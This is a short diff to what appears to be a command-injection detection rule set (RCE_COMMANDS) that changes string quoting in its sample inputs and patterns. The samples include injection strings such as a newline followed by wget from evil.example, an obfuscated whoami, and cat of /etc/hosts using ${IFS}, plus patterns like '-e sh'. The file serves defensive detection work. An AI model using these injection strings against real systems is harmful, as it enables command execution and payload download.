@@ -61,7 +61,7 @@ export const RCE_COMMANDS: readonly Rule[] = [
       '; sleep 5',
       '\nwget http://evil.example/x',
       ';w""ho\\ami',
-      '|cat${IFS}/etc/hosts',
+      `|cat\${IFS}/etc/hosts`,
     ],
     good: [
       'fish & chips',
@@ -150,7 +150,7 @@ export const RCE_COMMANDS: readonly Rule[] = [
         'comspec',
         '-e /bin',
         '-e sh',
-        '${ifs',
+        `\${ifs`,
         '$ifs',
         '???',
         'c?t',
